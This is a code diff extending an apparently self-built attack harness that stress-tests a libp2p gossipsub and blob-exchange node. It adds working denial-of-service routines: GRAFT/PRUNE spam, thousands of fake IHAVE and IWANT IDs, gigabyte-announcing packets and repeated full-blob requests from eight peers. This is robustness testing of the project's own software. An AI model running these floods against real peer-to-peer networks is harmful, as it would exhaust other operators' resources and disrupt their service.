@@ -29,14 +29,16 @@ import structlog
 import trio
 import trio.lowlevel
 from libp2p.peer.id import ID
-from libp2p.pubsub.gossipsub import PROTOCOL_ID_V11
 from libp2p.pubsub.pb import rpc_pb2
 from libp2p.utils import encode_varint_prefixed
+from libp2p.utils.varint import encode_uvarint
 
 from node.blobs import wire
 from node.blobs.exchange import BlobExchange
 from node.blobs.store import BlobStore
 from node.network.errors import NetworkError
+from node.network.gossip.gossip import MESHSUB
+from node.network.gossip.messages import name_of
 from node.network.host import Libp2pNetwork
 from node.swarm.board import Board
 from protocol.blobs import describe_pieces
@@ -230,7 +232,7 @@ class Abuser:
         while True:
             try:
                 await self.connect()
-                stream = await self.network._host.new_stream(self.peer, [PROTOCOL_ID_V11])
+                stream = await self.network._host.new_stream(self.peer, [MESHSUB])
                 while True:
                     await stream.write(encode_varint_prefixed(rpc().SerializeToString()))
                     self.sent += 1
@@ -385,8 +387,8 @@ async def control_spam(abuser: Abuser) -> None:
         control = rpc_pb2.ControlMessage(
             graft=[rpc_pb2.ControlGraft(topicID=name) for name in topics],
             prune=[rpc_pb2.ControlPrune(topicID=name, backoff=3600) for name in topics],
-            ihave=[rpc_pb2.ControlIHave(topicID=name, messageIDs=[os.urandom(40).hex().encode()]) for name in topics],
-            iwant=[rpc_pb2.ControlIWant(messageIDs=[os.urandom(40).hex().encode()]) for _ in topics],
+            ihave=[rpc_pb2.ControlIHave(topicID=name, messageIDs=[os.urandom(46)]) for name in topics],
+            iwant=[rpc_pb2.ControlIWant(messageIDs=[os.urandom(46)]) for _ in topics],
         )
         return rpc_pb2.RPC(control=control)
 
@@ -396,24 +398,62 @@ async def control_spam(abuser: Abuser) -> None:
 async def iwant_bomb(abuser: Abuser) -> None:
     """A stranger that hears the swarm's gossip: IWANT for one true message, 5,000 times in one request."""
     known: list[bytes] = []
-    heard = abuser.network._pubsub
-    push = heard.push_msg
-
-    async def note(forwarder: ID, message: rpc_pb2.Message) -> None:
-        known.append(heard.get_message_id(message))
-        await push(forwarder, message)
-
-    heard.push_msg = note  # type: ignore[method-assign]
     abuser.network.subscribe(TOPIC, lambda publisher, data: True)
     await abuser.connect()
+    trees = abuser.network._gossip.trees
+    came = trees.came
+
+    def note(giver: bytes, message: rpc_pb2.Message) -> None:
+        known.append(name_of(message))
+        came(giver, message)
+
+    trees.came = note  # type: ignore[method-assign]
     while not known:  # noqa: ASYNC110
         await trio.sleep(0.1)
 
     def rpc() -> rpc_pb2.RPC:
-        wanted = [rpc_pb2.ControlIWant(messageIDs=[known[-1].hex().encode()] * 5000)]
+        wanted = [rpc_pb2.ControlIWant(messageIDs=[known[-1]] * 5000)]
         return rpc_pb2.RPC(control=rpc_pb2.ControlMessage(iwant=wanted))
 
     await abuser.gossip(rpc)
+
+
+async def graft_spam(abuser: Abuser) -> None:
+    """A stranger: GRAFT and PRUNE for the swarm's own topic, by turns, 500 in a request."""
+    one = rpc_pb2.ControlMessage(
+        graft=[rpc_pb2.ControlGraft(topicID=TOPIC)], prune=[rpc_pb2.ControlPrune(topicID=TOPIC, backoff=3600)]
+    )
+    many = rpc_pb2.ControlMessage()
+    for _ in range(250):
+        many.MergeFrom(one)
+    await abuser.gossip(lambda: rpc_pb2.RPC(control=many))
+
+
+async def ihave_lies(abuser: Abuser) -> None:
+    """A stranger: IHAVE for the swarm's own topic, of 5,000 messages that nobody has, to be asked for them in vain."""
+
+    def rpc() -> rpc_pb2.RPC:
+        names = [os.urandom(40).hex().encode() for _ in range(5000)]
+        return rpc_pb2.RPC(
+            control=rpc_pb2.ControlMessage(ihave=[rpc_pb2.ControlIHave(topicID=TOPIC, messageIDs=names)])
+        )
+
+    await abuser.gossip(rpc)
+
+
+async def big_packets(abuser: Abuser) -> None:
+    """A stranger: gossip packets that announce a gigabyte, and as much of one as is taken."""
+    while True:
+        try:
+            await abuser.connect()
+            stream = await abuser.network._host.new_stream(abuser.peer, [MESHSUB])
+            await stream.write(encode_uvarint(2**30))
+            while True:
+                await stream.write(bytes(256 * 1024))
+                abuser.sent += 1
+        except Exception as error:
+            sys.stderr.write(f"cut: {error!r}\n")
+            await trio.sleep(0.1)
 
 
 async def gossip_flood(abuser: Abuser) -> None:
@@ -452,6 +492,28 @@ async def big_requests(abuser: Abuser) -> None:
             except Exception as error:
                 sys.stderr.write(f"cut: {error!r}\n")
                 await trio.sleep(0.1)
+
+    async with trio.open_nursery() as nursery:
+        for _ in range(8):
+            nursery.start_soon(one)
+
+
+async def stranger_bytes(abuser: Abuser) -> None:
+    """Eight strangers of one address: all pieces of the victim's blob, again and again, a gigabyte if they get it."""
+    ask = msgspec.msgpack.encode(wire.AskPieces(abuser.root, tuple(range(BLOB // (256 * 1024)))))
+
+    async def one() -> None:
+        network = Libp2pNetwork(NodeKey.generate(), "/ip4/127.0.0.9/tcp/0")
+        async with trio.open_nursery() as nursery:
+            await nursery.start(lambda task_status: network.run(task_status=task_status))
+            network.set_contacts({abuser.victim: abuser.contact})
+            while True:
+                try:
+                    got = await network.request(abuser.victim, wire.PROTOCOL, ask, max_response=2 * BLOB, timeout=20)
+                    abuser.sent += len(got) // 1000
+                except NetworkError as error:
+                    sys.stderr.write(f"{error}\n")
+                    await trio.sleep(0.02)
 
     async with trio.open_nursery() as nursery:
         for _ in range(8):
@@ -530,9 +592,13 @@ ATTACKS: dict[str, tuple[Attack, str]] = {
     "oversized": (oversized, MEMBER),
     "topic-flood": (topic_flood, STRANGER),
     "control-spam": (control_spam, STRANGER),
+    "graft-spam": (graft_spam, STRANGER),
+    "ihave-lies": (ihave_lies, STRANGER),
     "iwant-bomb": (iwant_bomb, STRANGER),
+    "big-packets": (big_packets, STRANGER),
     "gossip-flood": (gossip_flood, STRANGER),
     "big-requests": (big_requests, STRANGER),
+    "stranger-bytes": (stranger_bytes, ALONE),
     "blob-flood": (blob_flood, MEMBER),
     "garbage-blobs": (garbage_blobs, MEMBER),
 }
